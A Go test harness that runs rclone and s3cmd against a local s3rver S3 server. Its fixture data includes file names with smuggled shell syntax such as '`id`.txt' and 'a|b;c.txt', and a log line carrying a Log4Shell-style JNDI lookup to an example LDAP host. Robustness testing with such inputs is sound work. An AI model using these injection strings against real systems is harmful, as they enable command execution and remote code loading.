package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
)

// objects is an S3 server, used with rclone and s3cmd.
func objects() app {
	return app{
		name: "s3",
		needs: []need{
			{"node", "Node 20"}, {"npm", "Node 20 with npm"},
			{"rclone", "apt-get install rclone"}, {"s3cmd", "apt-get install s3cmd"},
		},
		start: func(p *place) error {
			modules, err := p.modules()
			if err != nil {
				return err
			}
			data := filepath.Join(p.dir, "objects")
			if err := os.MkdirAll(data, 0o700); err != nil {
				return fmt.Errorf("making a folder: %w", err)
			}
			return p.serve(p.port, "", nil, filepath.Join(modules, ".bin/s3rver"), "-d", data, "-a", "127.0.0.1", "-p",
				fmt.Sprint(p.port), "--no-vhost-buckets")
		},
		use: useObjects,
	}
}

func useObjects(f *flow) {
	env := []string{
		"RCLONE_CONFIG=" + filepath.Join(f.work, "none"), "RCLONE_CONFIG_X_TYPE=s3", "RCLONE_CONFIG_X_PROVIDER=Other",
		"RCLONE_CONFIG_X_ACCESS_KEY_ID=S3RVER", "RCLONE_CONFIG_X_SECRET_ACCESS_KEY=S3RVER",
		"RCLONE_CONFIG_X_ENDPOINT=" + f.base,
		"RCLONE_CONFIG_X_REGION=us-east-1", "RCLONE_CONFIG_X_FORCE_PATH_STYLE=true",
	}
	bucket := "bucket"
	rclone := func(name string, args ...string) {
		f.step("rclone "+name, func() (string, error) {
			out, err := f.command(f.work, env, "rclone", append(args, "--retries", "1", "--low-level-retries", "1",
				"--transfers", "1")...)
			return fmt.Sprint(len(strings.Split(out, "\n"))), err
		})
	}
	s3cmd := func(name string, args ...string) {
		f.step("s3cmd "+name, func() (string, error) {
			args = append([]string{"--config=/dev/null", "--access_key=S3RVER", "--secret_key=S3RVER", "--no-ssl",
				"--host=" + f.host, "--host-bucket=" + f.host,
				"--region=us-east-1"}, args...)
			out, err := f.command(f.work, []string{"LC_ALL=C.UTF-8"}, "s3cmd", args...)
			return fmt.Sprint(len(strings.Split(out, "\n"))), err
		})
	}
	f.step("files", func() (string, error) {
		for _, x := range append(oddFiles, []struct{ name, text string }{
			{"etc/app.conf", "a=b\n"}, {".env", "KEY=1\n"}, {"backup/db.sql.gz",
				"\x1f\x8b"}, {".git/config", "[core]\n"},
			{"a|b;c.txt", "x"}, {"<b>.html", "<b>"}, {"`id`.txt", "y"}, {"logs/access.log",
				"GET /?x=${jndi:ldap://e.example/a} 404\n"},
		}...) {
			if _, err := f.file(filepath.Join("work/files", x.name), x.text); err != nil {
				return "", err
			}
		}
		return "written", nil
	})
	files := filepath.Join(f.work, "files")
	rclone("mkdir", "mkdir", "x:"+bucket)
	rclone("sync", "sync", files, "x:"+bucket+"/data")
	rclone("sync again", "sync", files, "x:"+bucket+"/data")
	rclone("ls", "ls", "x:"+bucket)
	rclone("check", "check", files, "x:"+bucket+"/data")
	rclone("cat", "cat", "x:"+bucket+"/data/query.sql")
	rclone("move", "moveto", "x:"+bucket+"/data/index.php", "x:"+bucket+"/old/index's; (1).php")
	rclone("metadata", "copyto", filepath.Join(files, "query.sql"), "x:"+bucket+"/meta.sql", "--header-upload",
		"x-amz-meta-note: it's 'new' & <b>")
	rclone("copy back", "copy", "x:"+bucket, filepath.Join(f.work, "back"))
	s3cmd("ls", "ls", "s3://"+bucket+"/data/")
	s3cmd("put", "put", filepath.Join(files, "it's & (1);x.txt"), "s3://"+bucket+"/up/it's & (1);x.txt")
	s3cmd("sync", "sync", files+"/", "s3://"+bucket+"/mirror/")
	s3cmd("get", "get", "s3://"+bucket+"/up/it's & (1);x.txt", filepath.Join(f.work, "got.txt"))
	s3cmd("du", "du", "s3://"+bucket+"/data/")
	s3cmd("multi delete", "del", "--recursive", "--force", "s3://"+bucket+"/mirror/")
	rclone("purge", "purge", "x:"+bucket)
}
